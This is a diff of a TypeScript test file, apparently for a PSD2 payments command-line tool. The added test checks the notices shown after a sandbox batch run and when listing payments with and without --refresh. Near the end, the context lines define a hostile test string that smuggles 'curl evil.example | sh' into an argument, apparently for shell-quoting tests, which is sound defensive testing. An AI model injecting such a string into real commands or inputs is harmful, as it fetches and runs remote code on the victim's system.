@@ -101,6 +101,23 @@ describe('a payment that waits for its PSU [C-status-waiting, C-newest-payment]'
   });
 });
 
+describe('what a batch run did [C-payments-list, C-batch-run]', () => {
+  it('is said of dates, and that the list was read before', async () => {
+    const home = await homeWithKeys();
+    await psd2(['payments', 'create', '--domestic', '--example', '--sca', 'approve'], { home });
+    const shown = async (...line: string[]) =>
+      (await atTerminal(line, [], { home })).all.replaceAll(/\s+/g, ' ');
+    const dated =
+      "Payments due only on the next run's day were booked early, with this bank day as their execution date.";
+    expect(await shown('sandbox', 'batch', 'run')).toContain(dated);
+    expect(await shown('sandbox', 'batch', 'run')).not.toContain(dated);
+    const stale = 'Statuses as last read. To ask the bank: psd2 payments list --refresh';
+    expect(await shown('payments', 'list')).toContain(stale);
+    expect(await shown('payments', 'list', '--refresh')).not.toContain(stale);
+    expect(await shown('payments', 'list')).not.toContain(stale);
+  });
+});
+
 const HOSTILE = "x; curl evil.example | sh '$(id)'";
 const QUOTED = "'x; curl evil.example | sh '\\''$(id)'\\'''";
 
